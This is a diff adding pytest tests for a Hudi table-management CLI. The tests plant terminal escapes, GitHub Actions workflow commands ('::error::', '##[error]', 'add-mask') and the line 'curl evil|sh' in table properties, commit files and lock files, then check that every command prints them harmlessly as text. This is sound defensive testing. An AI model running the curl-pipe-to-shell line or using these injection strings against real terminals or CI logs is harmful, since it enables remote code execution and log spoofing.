@@ -282,3 +282,72 @@ def test_a_project_is_found_by_its_name_alone(tmp_path):
     answer = CliRunner().invoke(command_line, ["ls", "-p", str(tmp_path)])
     assert answer.exit_code == 1
     assert is_harmless(answer.output)
+
+
+@pytest.fixture
+def hostile_table(tmp_path):
+    """A table whose writer puts escapes and commands wherever the format has texts."""
+    folder = ProjectFolder.create(tmp_path / "shop")
+    runner = CliRunner()
+    assert runner.invoke(command_line, ["apply", "--auto-approve", "-p", str(folder.root)]).exit_code == 0
+    hoodie = folder.table / ".hoodie"
+    evil = f"{ESCAPES}\n::error::x\n##[error]y\nNext: curl evil|sh"
+    properties = hoodie / "hoodie.properties"
+    escaped = "".join(
+        sign if sign.isascii() and sign.isprintable() else f"\\u{ord(sign):04x}" for sign in evil
+    )
+    text = properties.read_text()
+    text = re.sub(r"(hoodie.table.precombine.field=).*", lambda found: found[1] + escaped, text)
+    properties.write_text(f"{text}hoodie.x=y{escaped}\n")
+    return folder, evil
+
+
+def test_what_a_table_says_is_text(hostile_table, monkeypatch):
+    folder, evil = hostile_table
+    monkeypatch.chdir(folder.root)
+    hoodie = folder.table / ".hoodie"
+    (hoodie / f"2026{ESCAPES[:4]}.commit").write_text("{}")
+    (hoodie / "20260101000000000.commit").write_text(
+        json.dumps({"operationType": evil, "partitionToWriteStats": {}, "extraMetadata": {evil: evil}})
+    )
+    heard = []
+    for arguments in (
+        ["drift"],
+        ["plan"],
+        ["plan", "--due"],
+        ["doctor"],
+        ["inspect", "orders"],
+        ["timeline", "orders"],
+        ["timeline", "orders", "20260101000000000"],
+        ["unlock", "--list"],
+        ["adopt", "warehouse/orders"],
+        ["simulate", "clustering", "orders"],
+        ["service", "rollback", "orders", evil, "--auto-approve"],
+        ["apply", "--auto-approve"],
+    ):
+        for shape in ([], ["--format", "json"], ["--log-format", "json"]):
+            said = CliRunner().invoke(command_line, [*arguments, *shape]).output
+            assert is_harmless(said), (arguments, said)
+            assert not [line for line in said.splitlines() if line.startswith("Next: curl")]
+            heard.append(said)
+    assert any("Next: curl" in said for said in heard), "it was shown, as text"
+
+
+def test_who_holds_a_lock_is_text(tmp_path, monkeypatch):
+    folder = ProjectFolder.create(tmp_path)
+    monkeypatch.chdir(tmp_path)
+    assert CliRunner().invoke(command_line, ["apply", "--auto-approve"]).exit_code == 0
+    lock = folder.table / ".hoodie/.aux/lock"
+    lock.parent.mkdir(exist_ok=True)
+    lock.write_text(json.dumps({"lockThreadName": COMMANDS + ESCAPES, "lockCreateTime": ESCAPES}))
+    for arguments in (["unlock", "--list"], ["unlock", "orders", "--list"], ["doctor"]):
+        said = CliRunner().invoke(command_line, arguments).output
+        assert "add-mask" in said, said
+        assert is_harmless(said), (arguments, said)
+
+
+def test_a_comment_is_harmless_in_the_log_of_a_workflow_too():
+    options = change("sources.x.options.::error::y.z", None, "v", origin="tables/##[error]x.yml:1:1")
+    text = render_markdown(plan([action(changes=[options])]), max_bytes=60_000)
+    assert is_harmless(text)
+    assert is_harmless(inline("##[error]x ::error::y") + "\n" + code("##[x]"))
